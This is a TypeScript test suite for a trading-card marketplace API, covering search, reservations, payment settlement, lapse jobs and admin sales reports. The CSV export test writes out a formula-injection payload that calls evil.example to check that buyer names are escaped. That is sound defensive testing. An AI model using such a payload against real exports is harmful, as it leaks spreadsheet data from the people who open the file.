import { and, eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LiveEvent } from '#common/live.ts';
import {
  marketplaceMessages,
  RESERVATION_MS,
  type ListingDetail,
  type ListingsResponse,
  type ReserveResponse,
  type UserSalesResponse,
} from '#common/marketplace.ts';
import { cardEvents, cards } from '#server/db/schema/cards.ts';
import { invoices } from '#server/db/schema/money.ts';
import { listings, sales } from '#server/db/schema/marketplace.ts';
import { notifications } from '#server/db/schema/notifications.ts';
import { users } from '#server/db/schema/users.ts';
import { houseAccountId } from '#server/modules/cards/index.ts';
import { settlePayment } from '#server/modules/money/index.ts';
import { createCard, createListing, signedInAdmin, signedInMember, type SignedInUser } from '#server/test/factories.ts';
import { createTestApp, type TestApp } from '#server/test/harness.ts';

let t: TestApp;
let admin: SignedInUser;
let buyer: SignedInUser;
let rival: SignedInUser;
const published: LiveEvent[] = [];

beforeAll(async () => {
  // `jobs: {}` starts the durable runner with the modules' own jobs (the reservation lapse).
  t = await createTestApp({ jobs: {} });
  admin = await signedInAdmin(t, { name: 'Market Admin' });
  buyer = await signedInMember(t, { name: 'Bea Buyer' });
  rival = await signedInMember(t, { name: 'Rhys Rival' });
  const original = t.app.ctx.live.publish.bind(t.app.ctx.live);
  t.app.ctx.live.publish = async (audience, event) => {
    published.push(event);
    return original(audience, event);
  };
});
afterAll(async () => {
  await t?.close();
});

const api = (who: SignedInUser | null, method: 'GET' | 'POST' | 'PATCH', url: string, payload?: unknown) =>
  t.app.inject({ method, url, headers: who?.headers, payload: payload as never });
const notesOf = (userId: string, kind: (typeof notifications.$inferSelect)['kind']) =>
  t.db
    .select()
    .from(notifications)
    .where(and(eq(notifications.userId, userId), eq(notifications.kind, kind)));
const sessionOf = (url: string) => new URL(url, 'http://x').searchParams.get('session')!;

async function reserve(who: SignedInUser, listingId: string) {
  const res = await api(who, 'POST', `/api/listings/${listingId}/reserve`);
  expect(res.statusCode, res.body).toBe(200);
  return res.json<ReserveResponse>();
}

async function pay(who: SignedInUser, invoiceId: string) {
  const open = await api(who, 'POST', '/api/checkout', { invoiceId });
  expect(open.statusCode, open.body).toBe(200);
  const sid = sessionOf(open.json<{ url: string }>().url);
  const done = await api(who, 'POST', `/api/payment-test/${sid}/complete`);
  expect(done.statusCode, done.body).toBe(200);
  return sid;
}

describe('browsing', () => {
  it('filters by text, sport, grader, grade and price, puts featured first only in the default order, and pages without a total', async () => {
    const tag = `Zyx${Date.now()}`;
    const a = await createListing(t, {
      priceCents: 100_000,
      card: { subject: `${tag} Alpha`, sport: 'hockey', grade: 'GEM MT 10', gradeValue: 10, year: 1979 },
    });
    const b = await createListing(t, {
      priceCents: 300_000,
      card: { subject: `${tag} Beta`, sport: 'hockey', grade: 'MINT 9', gradeValue: 9, year: 1980 },
    });
    const c = await createListing(t, {
      priceCents: 200_000,
      featuredUntil: new Date(t.clock.now().getTime() + 86_400_000),
      card: { subject: `${tag} Gamma`, sport: 'hockey', grade: 'NM 7', gradeValue: 7 },
    });
    await createListing(t, { priceCents: 200_000, card: { subject: `${tag} Delta`, sport: 'golf' } });

    const get = async (qs: string) => {
      const res = await api(buyer, 'GET', `/api/listings?q=${tag}&${qs}`);
      expect(res.statusCode, res.body).toBe(200);
      return res.json<ListingsResponse>();
    };
    // An order the member chose is that order (issue 32): the featured listing takes its place by price.
    const byPrice = await get('sport=hockey&sort=price_asc');
    expect(byPrice.listings.map((l) => l.id)).toEqual([a.id, c.id, b.id]);
    expect(byPrice.listings[1]!.featured).toBe(true);
    // The default order puts it first.
    expect((await get('sport=hockey')).listings.map((l) => l.id)).toEqual([c.id, b.id, a.id]);
    expect((await get('sport=hockey&minGrade=8&maxPriceCents=150000&grader=PSA')).listings.map((l) => l.id)).toEqual([a.id]);
    expect((await get('sport=hockey&sort=grade_desc')).listings.map((l) => l.id)).toEqual([a.id, b.id, c.id]);
    const paged = await get('sport=hockey&sort=price_desc&pageSize=1&page=2');
    expect(paged.listings.map((l) => l.id)).toEqual([c.id]);
    expect(paged.hasMore).toBe(true);
    // A year in q matches the year.
    expect((await api(buyer, 'GET', `/api/listings?q=${tag}%201980`)).json<ListingsResponse>().listings.map((l) => l.id)).toEqual([b.id]);
    expect((await api(buyer, 'GET', '/api/listings?minPriceCents=5&maxPriceCents=1')).statusCode).toBe(400);
  });

  it('finds a listed card by its current words, sport, grader, grade and year after the card is edited', async () => {
    const tag = `Qwv${Date.now()}`;
    const l = await createListing(t, { priceCents: 150_000, card: { subject: `${tag} Before`, sport: 'hockey', grader: 'PSA', year: 1979 } });
    const ids = async (qs: string) => {
      const res = await api(buyer, 'GET', `/api/listings?${qs}`);
      expect(res.statusCode, res.body).toBe(200);
      return res.json<ListingsResponse>().listings.map((x) => x.id);
    };
    expect(await ids(`q=${tag}&sport=hockey&grader=PSA`)).toEqual([l.id]);
    // Any write to the card (here straight to the table) reaches the listing's copy.
    await t.db
      .update(cards)
      .set({ subject: `${tag} After`, sport: 'golf', grader: 'BGS', gradeValue: 9.5, year: 1999 })
      .where(eq(cards.id, l.cardId));
    expect(await ids(`q=${tag}%20before`)).toEqual([]);
    expect(await ids(`q=${tag}&sport=hockey`)).toEqual([]);
    expect(await ids(`q=${tag}&grader=PSA`)).toEqual([]);
    expect(await ids(`q=${tag}%20after&sport=golf&grader=BGS`)).toEqual([l.id]);
    expect(await ids(`q=${tag}%201999&minGrade=9.5&maxGrade=9.5`)).toEqual([l.id]);
    expect(await ids(`q=${tag}%201979`)).toEqual([]);
    // Without words the copied columns answer.
    expect(await ids('sport=golf&grader=BGS&minGrade=9.5&maxGrade=9.5&pageSize=60')).toContain(l.id);
    expect(await ids('sport=hockey&grader=PSA&pageSize=60')).not.toContain(l.id);
    // A typed word never matches the sport and grader terms.
    expect(await ids(`q=${tag}%20sport`)).toEqual([]);
  });

  it('shows the detail with provenance, and 404 for a withdrawn listing to other members', async () => {
    const l = await createListing(t, { priceCents: 250_000 });
    const res = await api(buyer, 'GET', `/api/listings/${l.id}`);
    expect(res.statusCode, res.body).toBe(200);
    const d = res.json<ListingDetail>();
    expect(d).toMatchObject({ id: l.id, status: 'active', seller: { kind: 'house', id: null, name: 'The house' }, isMine: false, reservation: null });
    expect(d.provenance.inVaultSince).not.toBeNull();
    const w = await api(admin, 'PATCH', `/api/admin/listings/${l.id}`, { status: 'withdrawn' });
    expect(w.statusCode, w.body).toBe(200);
    expect((await api(buyer, 'GET', `/api/listings/${l.id}`)).statusCode).toBe(404);
    const [card] = await t.db.select().from(cards).where(eq(cards.id, l.cardId));
    expect(card!.holdKind).toBeNull();
    expect((await api(buyer, 'POST', `/api/listings/${l.id}/reserve`)).statusCode).toBe(409);
  });
});

describe('the reservation length', () => {
  it('the gallery and the detail say how long Buy holds a card, as the marketplace settings say', async () => {
    const l = await createListing(t);
    const minutes = async () => [
      (await api(buyer, 'GET', '/api/listings')).json<ListingsResponse>().reservationMinutes,
      (await api(buyer, 'GET', `/api/listings/${l.id}`)).json<ListingDetail>().reservationMinutes,
    ];
    expect(await minutes()).toEqual([RESERVATION_MS / 60_000, RESERVATION_MS / 60_000]);
    const set = (reservationMinutes: number) => api(admin, 'PATCH', '/api/admin/settings/sections/marketplace', { reservationMinutes });
    expect((await set(40)).statusCode).toBe(200);
    try {
      expect(await minutes()).toEqual([40, 40]);
    } finally {
      expect((await set(RESERVATION_MS / 60_000)).statusCode).toBe(200);
    }
  });
});

describe('buying', () => {
  it('reserves, pays through checkout, and settles: sold, one sale row, ownership moved, sold + transferred, custody in the vault', async () => {
    const l = await createListing(t, { priceCents: 420_000 });
    published.length = 0;
    const r = await reserve(buyer, l.id);
    expect(r.checkoutPath).toBe(`/checkout?invoice=${r.invoiceId}`);
    expect(new Date(r.reservedUntil).getTime() - t.clock.now().getTime()).toBe(RESERVATION_MS);
    expect(published).toContainEqual(expect.objectContaining({ type: 'listing_updated', listingId: l.id, status: 'reserved' }));
    const [inv] = await t.db.select().from(invoices).where(eq(invoices.id, r.invoiceId));
    expect(inv).toMatchObject({ status: 'sent', totalCents: 420_000, relatedKind: 'sale', relatedId: l.id, userId: buyer.user.id });
    const mine = (await api(buyer, 'GET', `/api/listings/${l.id}`)).json<ListingDetail>();
    expect(mine.reservedByMe).toBe(true);
    expect(mine.reservation?.invoiceId).toBe(r.invoiceId);
    expect((await api(rival, 'GET', `/api/listings/${l.id}`)).json<ListingDetail>().reservation).toBeNull();

    published.length = 0;
    await pay(buyer, r.invoiceId);
    const [after] = await t.db.select().from(listings).where(eq(listings.id, l.id));
    expect(after!.status).toBe('sold');
    const rows = await t.db.select().from(sales).where(eq(sales.listingId, l.id));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ buyerId: buyer.user.id, sellerId: null, priceCents: 420_000, payoutStatus: 'none' });
    expect(rows[0]!.feesCents).toBeGreaterThan(0);
    const [card] = await t.db.select().from(cards).where(eq(cards.id, l.cardId));
    expect(card).toMatchObject({ ownerId: buyer.user.id, custody: 'in_vault', holdKind: null });
    const kinds = (await t.db.select({ kind: cardEvents.kind }).from(cardEvents).where(eq(cardEvents.cardId, l.cardId)).orderBy(cardEvents.seq)).map(
      (e) => e.kind,
    );
    expect(kinds.slice(-2)).toEqual(['sold', 'transferred']);
    expect(published).toContainEqual(expect.objectContaining({ type: 'listing_updated', listingId: l.id, status: 'sold' }));
    expect(published).toContainEqual(expect.objectContaining({ type: 'card_updated', cardId: l.cardId, userId: buyer.user.id }));

    const mySales = (await api(buyer, 'GET', '/api/user/sales')).json<UserSalesResponse>();
    expect(mySales.bought.map((s) => s.listingId)).toContain(l.id);
    const registry = (await api(buyer, 'GET', '/api/registry')).json<{ cards: { id: string }[] }>();
    expect(registry.cards.map((c) => c.id)).toContain(l.cardId);
    // Reopened, the listing says the buyer bought it (issue 32), not that it is theirs to sell.
    expect((await api(buyer, 'GET', `/api/listings/${l.id}`)).json<ListingDetail>()).toMatchObject({
      status: 'sold',
      isMine: false,
      boughtByMe: true,
    });
    expect((await api(rival, 'GET', `/api/listings/${l.id}`)).json<ListingDetail>()).toMatchObject({ isMine: false, boughtByMe: false });
    // Gone from the gallery; reserving a sold listing is refused.
    const gone = await api(rival, 'POST', `/api/listings/${l.id}/reserve`);
    expect(gone.statusCode).toBe(409);
    expect(gone.json().error).toBe(marketplaceMessages.listingSold);
  });

  it('a second settlement of the same payment writes nothing more', async () => {
    const l = await createListing(t, { priceCents: 90_000 });
    const r = await reserve(buyer, l.id);
    const sid = await pay(buyer, r.invoiceId);
    const again = await settlePayment(t.app.ctx as never, {
      provider: 'test',
      sessionId: sid,
      amountCents: 90_000,
      eventId: 'another-event',
      reference: sid,
    });
    expect(again).toBe('already_settled');
    expect(await t.db.select().from(sales).where(eq(sales.listingId, l.id))).toHaveLength(1);
    const transfers = await t.db
      .select()
      .from(cardEvents)
      .where(and(eq(cardEvents.cardId, l.cardId), eq(cardEvents.kind, 'transferred')));
    expect(transfers).toHaveLength(1);
  });

  it('of buyers racing for one listing exactly one wins, every time; the others get the exact 409', async () => {
    const racers = [buyer, rival, ...(await Promise.all(Array.from({ length: 4 }, () => signedInMember(t))))];
    for (let round = 0; round < 10; round++) {
      const l = await createListing(t, { priceCents: 10_000 + round });
      const results = await Promise.all(racers.map((who) => api(who, 'POST', `/api/listings/${l.id}/reserve`)));
      const codes = results.map((r) => r.statusCode).sort();
      expect(codes).toEqual([200, ...Array(racers.length - 1).fill(409)]);
      for (const r of results.filter((x) => x.statusCode === 409)) expect(r.json().error).toBe(marketplaceMessages.justReserved);
      const open = await t.db
        .select()
        .from(invoices)
        .where(and(eq(invoices.relatedId, l.id), eq(invoices.status, 'sent')));
      expect(open).toHaveLength(1);
    }
  });

  it('the seller cannot buy their own listing', async () => {
    const seller = await signedInMember(t, { name: 'Sam Seller' });
    const l = await createListing(t, { seller: seller.user });
    const res = await api(seller, 'POST', `/api/listings/${l.id}/reserve`);
    expect(res.statusCode).toBe(409);
    expect(res.json().error).toBe(marketplaceMessages.ownListing);
    // A member seller's sale leaves a payout owed to them.
    const r = await reserve(rival, l.id);
    await pay(rival, r.invoiceId);
    const [sale] = await t.db.select().from(sales).where(eq(sales.listingId, l.id));
    expect(sale).toMatchObject({ sellerId: seller.user.id, payoutStatus: 'owed' });
    expect(sale!.sellerProceedsCents).toBe(sale!.priceCents - sale!.feesCents);
    const sellerView = (await api(seller, 'GET', '/api/user/sales')).json<UserSalesResponse>();
    expect(sellerView.sold.map((x) => x.id)).toEqual([sale!.id]);
    // The seller hears of the sale, in the bell and live; the buyer and the admins get no such notice.
    const [sold] = await notesOf(seller.user.id, 'listing_sold');
    expect(sold).toMatchObject({ title: 'Your card sold', link: '/sales?tab=sold' });
    expect(sold!.message).toContain(l.card.subject);
    expect(published).toContainEqual(expect.objectContaining({ type: 'notification', userId: seller.user.id, title: 'Your card sold' }));
    expect(await notesOf(rival.user.id, 'listing_sold')).toHaveLength(0);
    expect(await notesOf(admin.user.id, 'listing_sold')).toHaveLength(0);
    expect(sellerView.bought).toEqual([]);
    expect(sellerView.sold[0]).toMatchObject({
      buyer: { kind: 'member', id: rival.user.id },
      seller: { kind: 'member', id: seller.user.id },
      payoutStatus: 'owed',
    });
    const paid = await api(admin, 'PATCH', `/api/admin/sales/${sale!.id}`, { payoutStatus: 'paid' });
    expect(paid.statusCode, paid.body).toBe(200);
    expect((await api(admin, 'PATCH', `/api/admin/sales/${sale!.id}`, { payoutStatus: 'paid' })).statusCode).toBe(409);
  });

  it('the buyer cancels: listing active again, invoice void, checkout refused; another member can then buy', async () => {
    const l = await createListing(t);
    const r = await reserve(buyer, l.id);
    expect((await api(rival, 'POST', `/api/listings/${l.id}/cancel-reservation`)).statusCode).toBe(409);
    const res = await api(buyer, 'POST', `/api/listings/${l.id}/cancel-reservation`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json<ListingDetail>().status).toBe('active');
    const [inv] = await t.db.select().from(invoices).where(eq(invoices.id, r.invoiceId));
    expect(inv!.status).toBe('void');
    expect((await api(buyer, 'POST', '/api/checkout', { invoiceId: r.invoiceId })).statusCode).toBe(409);
    // Letting go on purpose is no news to the buyer.
    expect((await notesOf(buyer.user.id, 'reservation_lapsed')).filter((n) => n.link === `/secure/${l.id}`)).toHaveLength(0);
    await reserve(rival, l.id);
  });

  it('an unpaid reservation lapses after 15 minutes through the job runner; a payment started before it is refused', async () => {
    const l = await createListing(t);
    const r = await reserve(buyer, l.id);
    const open = await api(buyer, 'POST', '/api/checkout', { invoiceId: r.invoiceId });
    const sid = sessionOf(open.json<{ url: string }>().url);
    t.clock.advance(RESERVATION_MS - 1000);
    await t.app.jobRunner!.runDue();
    expect((await t.db.select().from(listings).where(eq(listings.id, l.id)))[0]!.status).toBe('reserved');
    t.clock.advance(2000);
    await t.app.jobRunner!.runDue();
    // The runner's own poll may have claimed the job a moment before runDue looked: wait for its commit.
    await expect.poll(async () => (await t.db.select().from(listings).where(eq(listings.id, l.id)))[0]!.status).toBe('active');
    const [after] = await t.db.select().from(listings).where(eq(listings.id, l.id));
    expect(after).toMatchObject({ status: 'active', reservedBy: null, invoiceId: null });
    expect((await t.db.select().from(invoices).where(eq(invoices.id, r.invoiceId)))[0]!.status).toBe('void');
    const refused = (await api(buyer, 'POST', `/api/payment-test/${sid}/complete`)).json();
    expect(refused).toMatchObject({ status: 'failed', reservationEnded: true });
    expect(await t.db.select().from(sales).where(eq(sales.listingId, l.id))).toHaveLength(0);
    const [card] = await t.db.select().from(cards).where(eq(cards.id, l.cardId));
    expect(card!.ownerId).toBe(await houseAccountId(t.db));
    // The buyer hears the card went back on sale, with the way back to it; nobody else does.
    const lapsed = (await notesOf(buyer.user.id, 'reservation_lapsed')).filter((n) => n.link === `/secure/${l.id}`);
    expect(lapsed).toHaveLength(1);
    expect(lapsed[0]).toMatchObject({ title: 'Reservation expired' });
    expect((await notesOf(admin.user.id, 'reservation_lapsed')).filter((n) => n.link === `/secure/${l.id}`)).toHaveLength(0);
  });

  it('lapses lazily at read and at buy time when the job has not run yet', async () => {
    // Sessions idle out as the fake clock runs; these two sign in afresh.
    const [buyer, rival] = [await signedInMember(t), await signedInMember(t)];
    const l = await createListing(t);
    await reserve(buyer, l.id);
    t.clock.advance(RESERVATION_MS + 1);
    // The gallery already shows it active; the detail read writes the lapse.
    const detail = (await api(rival, 'GET', `/api/listings/${l.id}`)).json<ListingDetail>();
    expect(detail.status).toBe('active');
    expect((await t.db.select().from(listings).where(eq(listings.id, l.id)))[0]!.status).toBe('active');
    const l2 = await createListing(t);
    const [b2, r2] = [await signedInMember(t), await signedInMember(t)];
    await reserve(b2, l2.id);
    t.clock.advance(RESERVATION_MS + 1);
    const won = await reserve(r2, l2.id);
    expect(won.listingId).toBe(l2.id);
  });
});

describe('admin listings and sales', () => {
  // The lapse tests ran the clock past the earlier sessions' idle limit.
  beforeAll(async () => {
    admin = await signedInAdmin(t, { name: 'Market Admin' });
    buyer = await signedInMember(t, { name: 'Bea Buyer' });
  });
  it('lists a house card in the vault, refuses a member card or one not vaulted, and reprices', async () => {
    const house = { id: await houseAccountId(t.db) };
    const vaulted = await createCard(t, house, { custody: 'in_vault' });
    const outside = await createCard(t, house, { custody: 'with_owner' });
    const members = await createCard(t, buyer.user, { custody: 'in_vault' });
    const cardsRes = await api(admin, 'GET', '/api/admin/listings/house-cards');
    expect(cardsRes.json<{ cards: { id: string }[] }>().cards.map((c) => c.id)).toContain(vaulted.id);
    const ok = await api(admin, 'POST', '/api/admin/listings', { cardId: vaulted.id, priceCents: 75_000, featuredDays: 3 });
    expect(ok.statusCode, ok.body).toBe(201);
    expect(ok.json()).toMatchObject({ status: 'active', featured: true, seller: { kind: 'house' } });
    expect((await api(admin, 'POST', '/api/admin/listings', { cardId: vaulted.id, priceCents: 75_000 })).statusCode).toBe(409);
    const notVaulted = await api(admin, 'POST', '/api/admin/listings', { cardId: outside.id, priceCents: 75_000 });
    expect(notVaulted.statusCode).toBe(409);
    expect(notVaulted.json().error).toBe(marketplaceMessages.notInVault);
    expect((await api(admin, 'POST', '/api/admin/listings', { cardId: members.id, priceCents: 75_000 })).statusCode).toBe(409);
    for (const priceCents of [0, -5, 1.5, 10_000_000_001]) {
      expect((await api(admin, 'POST', '/api/admin/listings', { cardId: outside.id, priceCents })).statusCode).toBe(400);
    }
    const repriced = await api(admin, 'PATCH', `/api/admin/listings/${ok.json().id}`, { priceCents: 80_000 });
    expect(repriced.json().priceCents).toBe(80_000);
    const [ev] = await t.db
      .select()
      .from(cardEvents)
      .where(and(eq(cardEvents.cardId, vaulted.id), eq(cardEvents.kind, 'listed')));
    expect(ev).toBeDefined();
    expect((await api(buyer, 'POST', '/api/admin/listings', { cardId: vaulted.id, priceCents: 1 })).statusCode).toBe(403);
  });

  it('sales history has totals per period and a CSV export', async () => {
    const res = await api(admin, 'GET', '/api/admin/sales?period=day');
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json<{ sales: unknown[]; totals: { count: number; priceCents: number }; byPeriod: { count: number }[] }>();
    expect(body.totals.count).toBe(body.sales.length);
    expect(body.byPeriod.reduce((n, p) => n + p.count, 0)).toBe(body.totals.count);
    const csv = await api(admin, 'GET', '/api/admin/sales/export.csv');
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const lines = csv.body.trim().split(/\r?\n/);
    expect(lines[0]).toBe('Date,Kind,Card,Buyer,Seller,Price,Fees,Total,Seller proceeds,Payout');
    expect(lines.length).toBe(body.totals.count + 1);
    // security: a buyer whose name is a formula comes out as text (the shared writer, #common/csv.ts).
    const [sale] = await t.db.select({ buyerId: sales.buyerId }).from(sales).limit(1);
    // (papaparse's own escapeFormulae misses a formula followed by a line break.)
    const attack = '-2+3+WEBSERVICE("http://evil.example/?"&A1)\nBea Buyer';
    await t.db.update(users).set({ name: attack }).where(eq(users.id, sale!.buyerId));
    const hostile = Papa.parse<string[]>((await api(admin, 'GET', '/api/admin/sales/export.csv')).body).data;
    const buyerCells = hostile.slice(1).map((r) => r[3]);
    expect(buyerCells).toContain(`'${attack}`);
    expect(buyerCells).not.toContain(attack);
    expect((await api(admin, 'GET', '/api/admin/sales?from=2030-01-02&to=2030-01-01')).statusCode).toBe(400);
    expect((await api(buyer, 'GET', '/api/admin/sales')).statusCode).toBe(403);
  });
});
